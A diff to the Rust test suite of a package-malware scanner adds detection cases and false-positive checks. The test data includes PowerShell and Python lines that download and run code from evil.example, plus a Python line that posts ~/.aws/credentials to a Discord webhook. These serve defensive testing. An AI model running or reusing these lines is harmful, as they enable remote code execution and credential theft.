@@ -115,6 +115,9 @@ fn download_and_execute_variants() {
         ("x/m.py", "import urllib.request\nexec(urllib.request.urlopen('https://evil.example/s').read())\n"),
         ("x/m.py", "from urllib.request import urlopen\ncode = urlopen(URL).read()\n\nexec(code)\n"),
         ("x/i.ps1", "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n"),
+        ("x/i.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\n"),
+        ("x/i.ps1", "iex(iwr http://evil.example/a -UseBasicParsing)\n"),
+        ("x/i.ps1", "irm http://evil.example/a | iex\n"),
     ] {
         let f = scan(&files(&[(path, text)]));
         assert!(codes(&f).contains(&DOWNLOAD_EXEC), "{text}: {f:?}");
@@ -215,6 +218,51 @@ fn endpoints_obfuscation_and_ips() {
 }
 
 #[test]
+fn alias_lists_are_not_powershell_commands() {
+    // A syntax highlighter's keyword list (pygments' PowerShell lexer)
+    // names `iex` and `irm` side by side: no call, no download.
+    let lexer = "KEYWORDS = (\n    'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp '\n)\n";
+    assert_eq!(scan(&files(&[("pygments/lexers/shell.py", lexer)])), vec![]);
+}
+
+#[test]
+fn weak_signals_in_test_suites_do_not_count() {
+    // pandas' own tests: a fake AWS key in a fixture, a random literal.
+    let conftest = "def aws(monkeysession):\n    monkeysession.setenv(\"AWS_SECRET_ACCESS_KEY\", \"testing\")\n";
+    let mut blob = String::new();
+    let mut x: u32 = 7;
+    for _ in 0..300 {
+        x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
+        blob.push(
+            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+                [(x >> 16) as usize % 64] as char,
+        );
+    }
+    let entropy = &format!("EXPECTED = '{blob}'\n");
+    for path in [
+        "pandas/tests/io/conftest.py",
+        "pandas/tests/util/test_hashing.py",
+        "lib/__tests__/fixture.test.js",
+    ] {
+        assert_eq!(
+            scan(&files(&[(path, conftest), (path, entropy)])),
+            vec![],
+            "{path}"
+        );
+    }
+    // The same lines in library code still count…
+    let f = scan(&files(&[
+        ("pkg/io.py", conftest),
+        ("pkg/hashing.py", entropy),
+    ]));
+    assert_eq!(codes(&f), [CREDENTIAL_ACCESS, OBFUSCATION], "{f:?}");
+    // …and strong signals count in tests too.
+    let stealer = "import requests, os\nrequests.post('https://discord.com/api/webhooks/1/abc', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
+    let f = scan(&files(&[("pkg/tests/test_x.py", stealer)]));
+    assert!(codes(&f).contains(&CREDENTIAL_EXFIL), "{f:?}");
+}
+
+#[test]
 fn bundled_executables_depend_on_the_artifact() {
     let elf = "\x7fELF\x02\x01\x01";
     let pure = ("p-1.dist-info/WHEEL", "Tag: py3-none-any\n");
@@ -229,6 +277,10 @@ fn bundled_executables_depend_on_the_artifact() {
         scan(&files(&[pure, ("setuptools/cli-64.exe", "MZ")])),
         vec![]
     );
+    // distlib's launchers, in distlib itself and vendored.
+    for path in ["distlib/t32.exe", "pip/_vendor/distlib/w64-arm.exe"] {
+        assert_eq!(scan(&files(&[pure, (path, "MZ")])), vec![], "{path}");
+    }
     assert_eq!(
         scan(&files(&[
             ("package/package.json", "{}"),
